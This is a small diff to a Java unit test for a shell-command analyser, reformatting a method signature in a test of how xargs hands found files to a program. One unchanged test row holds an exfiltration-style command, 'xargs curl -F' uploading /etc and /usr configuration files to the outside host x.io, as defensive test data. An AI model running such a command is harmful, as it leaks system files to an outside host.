@@ -62,8 +62,7 @@ class FoundFilesTest {
         xargs curl -F f=@x.io:80/a,b => curl  => curl -F f=@x.io:80/a,b '/etc/*.conf' '/usr/*.conf'
         xargs chmod u+x%             => chmod => chmod u+x% '/etc/*.conf' '/usr/*.conf'
         """)
-    void fedTo_handsTheFoundFilesToACommandThatReadsItsArgumentsFromItsInput(
-            String line, String program, String fed) {
+    void fedTo_handsTheFoundFilesToACommandThatReadsItsArgumentsFromItsInput(String line, String program, String fed) {
         var command = ShellAnalyser.analyse(line, ShellContext.of("/home/dev/app", "/home/dev"))
                 .commandsNamed(program)
                 .getFirst();
